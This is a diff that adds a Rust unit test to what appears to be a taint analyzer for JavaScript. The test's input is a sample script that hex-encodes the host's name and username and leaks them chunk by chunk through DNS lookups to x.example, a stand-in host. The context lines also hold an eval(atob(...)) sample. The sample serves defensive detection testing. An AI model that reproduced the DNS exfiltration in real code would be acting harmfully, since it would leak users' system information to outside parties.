@@ -443,6 +443,24 @@ eval(atob('Y29uc29sZS5sb2coMSk7IGZldGNoKCk='));";
 }
 
 #[test]
+fn taint_follows_chunks_into_iteration_callbacks() {
+    // DNS exfiltration splits the data into labels and looks each one up in a callback.
+    let src = "const dns = require('dns'), os = require('os');
+const hex = Buffer.from([os.hostname(), os.userInfo().username].join('|')).toString('hex');
+const chunks = hex.match(/.{1,50}/g) || [];
+chunks.forEach((c, i) => { dns.lookup(`${c}.${i}.x.example`, () => {}); });
+[1, 2].forEach((n) => dns.lookup(`${n}.x.example`, () => {}));";
+    let f = analyze("index.js", src);
+    let lookups: Vec<_> = f
+        .calls
+        .iter()
+        .filter(|c| c.callee == "dns.lookup")
+        .collect();
+    assert_eq!(lookups[0].arg_sources[0], [Source::SystemInfo]);
+    assert!(lookups[1].arg_sources.is_empty());
+}
+
+#[test]
 fn untainted_calls_record_no_sources() {
     let src = "const os = require('os');
 const names = Object.keys(process.env);
